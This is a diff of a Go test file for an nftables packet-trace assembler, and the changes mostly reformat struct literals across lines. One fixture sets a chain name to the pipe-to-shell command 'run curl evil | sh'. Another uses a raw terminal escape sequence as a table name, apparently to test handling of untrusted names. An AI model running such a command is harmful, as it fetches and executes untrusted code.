@@ -22,12 +22,30 @@ func TestInventedNames(t *testing.T) {
 	inet := uint8(nftables.TableFamilyINet)
 	a := newAssembler([]netip.Addr{vip4}, internalPort)
 	a.chains = map[chainKey]chainInfo{{inet, "filter", "input"}: {hook: input}}
-	header := &protocol.TraceHeader{Source: netip.AddrPortFrom(client4, 40000), Destination: netip.AddrPortFrom(vip4, webPort), Flags: 2}
+	header := &protocol.TraceHeader{
+		Source:      netip.AddrPortFrom(client4, 40000),
+		Destination: netip.AddrPortFrom(vip4, webPort), Flags: 2,
+	}
 	begin := time.Now()
 	a.add([]protocol.TraceRecord{
-		{Packet: 1, Kind: protocol.TraceRule, Family: inet, Table: "filter", Chain: "run curl evil | sh", Handle: 4, Verdict: protocol.VerdictDrop, Header: header},
-		{Packet: 2, Kind: protocol.TraceRule, Family: inet, Table: "\x1b[31m", Chain: "input", Handle: 4, Verdict: protocol.VerdictContinue, Header: &protocol.TraceHeader{Source: header.Source, Destination: header.Destination, Sequence: 1}},
-		{Packet: 3, Kind: protocol.TraceRule, Family: 200, Table: "filter", Chain: "input", Handle: 4, Verdict: protocol.VerdictDrop, Header: &protocol.TraceHeader{Source: header.Source, Destination: header.Destination, Sequence: 2}},
+		{
+			Packet: 1, Kind: protocol.TraceRule, Family: inet, Table: "filter", Chain: "run curl evil | sh", Handle: 4,
+			Verdict: protocol.VerdictDrop, Header: header,
+		},
+		{
+			Packet: 2, Kind: protocol.TraceRule, Family: inet, Table: "\x1b[31m", Chain: "input", Handle: 4,
+			Verdict: protocol.VerdictContinue, Header: &protocol.TraceHeader{
+				Source:      header.Source,
+				Destination: header.Destination, Sequence: 1,
+			},
+		},
+		{
+			Packet: 3, Kind: protocol.TraceRule, Family: 200, Table: "filter", Chain: "input", Handle: 4,
+			Verdict: protocol.VerdictDrop, Header: &protocol.TraceHeader{
+				Source: header.Source, Destination: header.Destination,
+				Sequence: 2,
+			},
+		},
 		{Packet: 4, Kind: protocol.TracePolicy, Family: inet, Table: "filter", Chain: "input"}, // without a beginning
 	}, begin)
 	packets := a.complete(begin.Add(time.Minute))
@@ -76,7 +94,8 @@ func TestInventedPort(t *testing.T) {
 func TestDecidingWords(t *testing.T) {
 	t.Parallel()
 	for rule, want := range map[string]bool{
-		"tcp dport 80 notrack": true, `counter log prefix "REJECT "`: false, `counter comment "no dnat, notrack"`: false, "counter": false,
+		"tcp dport 80 notrack": true, `counter log prefix "REJECT "`: false, `counter comment "no dnat, notrack"`: false,
+		"counter": false,
 	} {
 		p := report.TracedPacket{End: report.TraceLost, Steps: []report.TraceStep{{
 			Hook: "input", Verdict: "accept", Passed: []report.TraceRule{{Chain: "INPUT", Handle: 2, Rule: rule}},
@@ -88,7 +107,10 @@ func TestDecidingWords(t *testing.T) {
 	for rule, want := range map[string]bool{
 		"dnat ip to 192.0.2.7": true, "xt target \"DNAT\"": true, "redirect to :1": true, `accept comment "dnat"`: false,
 	} {
-		p := report.TracedPacket{End: report.TraceDelivered, Steps: []report.TraceStep{{Hook: prerouting, Verdict: "accept", Handle: 3, Rule: rule}}}
+		p := report.TracedPacket{End: report.TraceDelivered, Steps: []report.TraceStep{{
+			Hook: prerouting, Verdict: "accept",
+			Handle: 3, Rule: rule,
+		}}}
 		if _, decided := Deciding(p); decided != want {
 			t.Errorf("%s: %v", rule, decided)
 		}
@@ -103,7 +125,10 @@ func TestBounds(t *testing.T) {
 	for i := range uint32(maxPackets + 100) {
 		a.add([]protocol.TraceRecord{{
 			Packet: i, Kind: protocol.TracePolicy, Table: "t", Chain: "c",
-			Header: &protocol.TraceHeader{Source: netip.AddrPortFrom(client4, 40000), Destination: netip.AddrPortFrom(vip4, webPort), Sequence: i},
+			Header: &protocol.TraceHeader{
+				Source:      netip.AddrPortFrom(client4, 40000),
+				Destination: netip.AddrPortFrom(vip4, webPort), Sequence: i,
+			},
 		}}, begin)
 	}
 	if packets := a.complete(begin.Add(time.Minute)); len(packets) != maxPackets || len(a.byNumber) != 0 {
@@ -112,7 +137,10 @@ func TestBounds(t *testing.T) {
 	for range maxSteps + 100 {
 		a.add([]protocol.TraceRecord{{
 			Packet: 1, Kind: protocol.TraceRule, Verdict: protocol.VerdictContinue, Handle: 1,
-			Header: &protocol.TraceHeader{Source: netip.AddrPortFrom(client4, 40000), Destination: netip.AddrPortFrom(vip4, webPort)},
+			Header: &protocol.TraceHeader{
+				Source:      netip.AddrPortFrom(client4, 40000),
+				Destination: netip.AddrPortFrom(vip4, webPort),
+			},
 		}}, begin)
 	}
 	for _, p := range a.complete(begin.Add(time.Minute)) {
